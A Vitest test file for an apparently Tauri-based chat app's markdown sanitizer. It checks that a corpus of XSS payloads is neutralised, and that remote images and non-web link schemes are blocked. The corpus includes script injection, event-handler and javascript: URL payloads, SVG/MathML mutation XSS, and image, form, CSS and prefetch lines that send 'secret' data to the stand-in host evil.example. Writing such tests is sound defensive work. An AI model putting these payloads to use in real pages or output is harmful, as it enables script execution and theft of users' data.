import { describe, expect, it, vi } from "vitest";
import { handleLinkClicks, renderMarkdownHtml, renderMarkdownInto, sanitizeHtml } from "./markdown";

const ALLOWED_TAGS = new Set([
  "a", "abbr", "b", "blockquote", "br", "code", "dd", "del", "details", "div", "dl", "dt", "em",
  "h1", "h2", "h3", "h4", "h5", "h6", "hr", "i", "img", "kbd", "li", "mark", "ol", "p", "pre", "q", "s",
  "samp", "small", "span", "strong", "sub", "summary", "sup", "table", "tbody", "td", "tfoot", "th",
  "thead", "tr", "u", "ul",
  // added by the code-block decoration, never from model output
  "button",
]);
const ALLOWED_ATTRS = new Set(["href", "title", "alt", "src", "class", "start", "align", "colspan", "rowspan", "open", "type"]);

const XSS_CORPUS: Record<string, string> = {
  script: "<script>alert(1)</script>hello",
  scriptInParagraph: "text <script>alert(document.cookie)</script> more",
  imgOnerror: '<img src=x onerror="alert(1)">',
  imgOnerrorQuoted: "<img src=\"https://evil.example/a.png\" onerror=alert(1) onload=alert(2)>",
  javascriptLink: "[click me](javascript:alert(1))",
  javascriptLinkEncoded: "[click](jav&#x61;script:alert(1))",
  javascriptLinkSpaces: "[click](  javascript:alert(1))",
  javascriptHtmlLink: '<a href="javascript:alert(1)">x</a>',
  javascriptEntityLink: '<a href="&#106;avascript:alert(1)">x</a>',
  dataLink: "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  dataHtmlLink: '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  vbscriptLink: "[x](vbscript:msgbox(1))",
  vbscriptHtmlLink: '<a href="vbscript:msgbox(1)">x</a>',
  fileLink: "[x](file:///etc/passwd)",
  iframeSrcdoc: '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  iframeSrc: '<iframe src="https://evil.example"></iframe>',
  svgScript: "<svg><script>alert(1)</script></svg>",
  svgOnload: '<svg onload="alert(1)"><circle r="10"/></svg>',
  svgAnimate: '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text y="20">x</text></a></svg>',
  svgImage: '<svg><image href="https://evil.example/?q=secret"/></svg>',
  svgUse: '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>"/></svg>',
  mathml: '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  form: '<form action="https://evil.example"><input name="q" value="secret"><button>Go</button></form>',
  formaction: '<button formaction="javascript:alert(1)">x</button>',
  metaRefresh: '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  base: '<base href="https://evil.example/">',
  link: '<link rel="stylesheet" href="https://evil.example/x.css">',
  linkPrefetch: '<link rel="prefetch" href="https://evil.example/?q=secret">',
  style: "<style>body{background:url(https://evil.example/?q=secret)}</style>",
  styleAttr: '<p style="background:url(https://evil.example/?q=1)">x</p>',
  objectEmbed: '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x">',
  markdownImageExfil: "![x](https://evil/?q=secret)",
  markdownImageExfilTitle: '![loading](https://evil.example/p.png?d=SECRET "t")',
  referenceImageExfil: "![x][ref]\n\n[ref]: https://evil.example/?q=secret",
  htmlImage: '<img src="https://evil.example/?q=secret" alt="a">',
  htmlImageSrcset: '<img srcset="https://evil.example/?q=1 1x" src="data:image/png;base64,AAAA">',
  picture: '<picture><source srcset="https://evil.example/a.png"><img src="https://evil.example/b.png"></picture>',
  videoPoster: '<video poster="https://evil.example/p.png"><source src="https://evil.example/v.mp4"></video>',
  audio: '<audio src="https://evil.example/a.mp3" autoplay></audio>',
  protocolRelativeImage: "![x](//evil.example/x.png)",
  relativeImage: '<img src="/etc/passwd">',
  backgroundAttr: '<table background="https://evil.example/x.png"><tr><td>x</td></tr></table>',
  targetBlank: '<a href="https://example.com" target="_blank" onclick="alert(1)">x</a>',
  dataAttr: '<div data-tauri-drag-region data-x="1" aria-hidden="true" id="app">x</div>',
  clobber: '<img name="getElementById"><form id="location"></form>',
  template: "<template><script>alert(1)</script></template>",
  noscript: "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
  details: '<details open ontoggle="alert(1)"><summary>s</summary>x</details>',
  classSpoof: '<div class="banner alert-banner hljs-keyword">x</div>',
  mutationXss: "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
  nestedFence: "```html\n<script>alert(1)</script>\n```",
  inlineCodeHtml: "`<img src=x onerror=alert(1)>`",
};

function collectViolations(root: Element): string[] {
  const problems: string[] = [];
  for (const element of Array.from(root.querySelectorAll("*"))) {
    const tag = element.tagName.toLowerCase();
    if (!ALLOWED_TAGS.has(tag)) problems.push(`tag <${tag}>`);
    for (const attr of Array.from(element.attributes)) {
      const name = attr.name.toLowerCase();
      if (!ALLOWED_ATTRS.has(name)) problems.push(`attribute ${name} on <${tag}>`);
      if (name.startsWith("on")) problems.push(`handler ${name}`);
    }
    const href = element.getAttribute("href");
    if (href !== null && !/^(https?:\/\/|mailto:)/i.test(href)) problems.push(`href ${href}`);
    const src = element.getAttribute("src");
    if (src !== null && (tag !== "img" || !/^data:image\//i.test(src))) problems.push(`src ${src} on <${tag}>`);
    if (tag === "img" && src === null) problems.push("img without inline source");
    const classes = element.getAttribute("class");
    if (classes !== null && /\b(banner|alert-banner)\b/.test(classes)) problems.push(`class ${classes}`);
  }
  return problems;
}

describe("markdown sanitizing", () => {
  for (const [name, payload] of Object.entries(XSS_CORPUS)) {
    it(`neutralises ${name}`, () => {
      const container = document.createElement("div");
      renderMarkdownInto(container, payload);
      expect(collectViolations(container)).toEqual([]);
      // The same checks on the serialized markup's tags (code text may show the payload, escaped).
      const tags = (container.innerHTML.toLowerCase().match(/<[^>]*>/g) ?? []).join("\n");
      expect(tags).not.toMatch(/<(script|iframe|svg|form|meta|style|link|object|embed|base|input|button type="submit")\b/);
      expect(tags).not.toMatch(/\son[a-z]+=/);
      expect(tags).not.toMatch(/javascript:|vbscript:|data:text/);
      expect(tags).not.toMatch(/\ssrc="(?!data:image\/)/);
    });
  }

  it("also neutralises the corpus as one string through the plain HTML path", () => {
    const container = document.createElement("div");
    container.innerHTML = renderMarkdownHtml(Object.values(XSS_CORPUS).join("\n\n"));
    expect(collectViolations(container)).toEqual([]);
  });

  it("replaces a remote markdown image by a placeholder with its alt text and URL as a link", () => {
    const container = document.createElement("div");
    renderMarkdownInto(container, "See ![the chart](https://evil/?q=secret) here");
    expect(container.querySelector("img")).toBeNull();
    const placeholder = container.querySelector(".md-image-blocked");
    expect(placeholder).not.toBeNull();
    expect(placeholder?.textContent).toContain("the chart");
    const link = placeholder?.querySelector("a");
    expect(link?.getAttribute("href")).toBe("https://evil/?q=secret");
    expect(link?.textContent).toBe("https://evil/?q=secret");
  });

  it("does not turn a non-web image URL into a link", () => {
    const container = document.createElement("div");
    renderMarkdownInto(container, "![x](javascript:alert(1))");
    expect(container.querySelector("img")).toBeNull();
    expect(container.querySelector(".md-image-blocked a")).toBeNull();
  });

  it("keeps inline data:image images", () => {
    const container = document.createElement("div");
    renderMarkdownInto(container, "![dot](data:image/png;base64,iVBORw0KGgo=)");
    const img = container.querySelector("img");
    expect(img?.getAttribute("src")).toBe("data:image/png;base64,iVBORw0KGgo=");
    expect(img?.getAttribute("alt")).toBe("dot");
  });

  it("keeps http, https and mailto links and drops every other scheme", () => {
    const container = document.createElement("div");
    renderMarkdownInto(
      container,
      "[a](https://openrouter.ai/docs) [b](http://example.com) [c](mailto:me@example.com) [d](ftp://x) [e](/relative) [f](#top)",
    );
    const hrefs = Array.from(container.querySelectorAll("a")).map((a) => a.getAttribute("href"));
    expect(hrefs).toEqual(["https://openrouter.ai/docs", "http://example.com", "mailto:me@example.com", null, null, null]);
  });

  it("renders ordinary markdown faithfully", () => {
    const html = renderMarkdownHtml("# Title\n\nSome **bold** and *em* and `code`.\n\n- one\n- two\n\n| a | b |\n|---|:-:|\n| 1 | 2 |\n");
    expect(html).toContain("<h1>Title</h1>");
    expect(html).toContain("<strong>bold</strong>");
    expect(html).toContain("<code>code</code>");
    expect(html).toContain("<li>one</li>");
    expect(html).toContain('<th align="center">b</th>');
  });

  it("shows code inside fences as text, never as markup", () => {
    const container = document.createElement("div");
    renderMarkdownInto(container, "```html\n<img src=x onerror=alert(1)>\n```");
    expect(container.querySelector("img")).toBeNull();
    expect(container.querySelector("code")?.textContent).toContain("<img src=x onerror=alert(1)>");
  });

  it("highlights closed fences of known languages only", () => {
    const closed = document.createElement("div");
    renderMarkdownInto(closed, "```js\nconst x = 1;\n```");
    expect(closed.querySelector("code")?.className).toBe("hljs language-js");
    expect(closed.querySelector(".hljs-keyword")?.textContent).toBe("const");

    const open = document.createElement("div");
    renderMarkdownInto(open, "```js\nconst x = 1;\n");
    expect(open.querySelector("code")?.className).toBe("");
    expect(open.querySelector("span")?.className).not.toMatch(/hljs/);

    const unknown = document.createElement("div");
    renderMarkdownInto(unknown, "```klingon\nqapla'\n```");
    expect(unknown.querySelector("code")?.className).toBe("");
    expect(unknown.querySelector("code")?.textContent).toBe("qapla'\n");
  });

  it("gives every code block a Copy button and its language", () => {
    const container = document.createElement("div");
    renderMarkdownInto(container, "```python\nprint(1)\n```\n\n    indented\n");
    const buttons = Array.from(container.querySelectorAll("button"));
    expect(buttons.map((b) => b.textContent)).toEqual(["Copy", "Copy"]);
    expect(container.querySelector(".md-code-lang")?.textContent).toBe("python");
  });

  it("renders task list items without form controls", () => {
    const container = document.createElement("div");
    renderMarkdownInto(container, "- [x] done\n- [ ] todo\n");
    expect(container.querySelector("input")).toBeNull();
    expect(container.textContent).toContain("\u2611");
    expect(container.textContent).toContain("\u2610");
  });

  it("sanitizeHtml strips handlers from plain HTML", () => {
    expect(sanitizeHtml('<p onclick="x()">hi</p>')).toBe("<p>hi</p>");
  });
});

describe("link clicks", () => {
  it("open http(s) links externally and never navigate", () => {
    const container = document.createElement("div");
    document.body.appendChild(container);
    renderMarkdownInto(container, "[docs](https://openrouter.ai/docs) and <a>bare</a>");
    const open = vi.fn();
    const stop = handleLinkClicks(container, open);
    const links = container.querySelectorAll("a");
    const first = new MouseEvent("click", { bubbles: true, cancelable: true });
    links[0]?.dispatchEvent(first);
    expect(first.defaultPrevented).toBe(true);
    expect(open).toHaveBeenCalledWith("https://openrouter.ai/docs");
    const second = new MouseEvent("click", { bubbles: true, cancelable: true });
    links[1]?.dispatchEvent(second);
    expect(second.defaultPrevented).toBe(true);
    expect(open).toHaveBeenCalledTimes(1);
    stop();
    container.remove();
  });
});
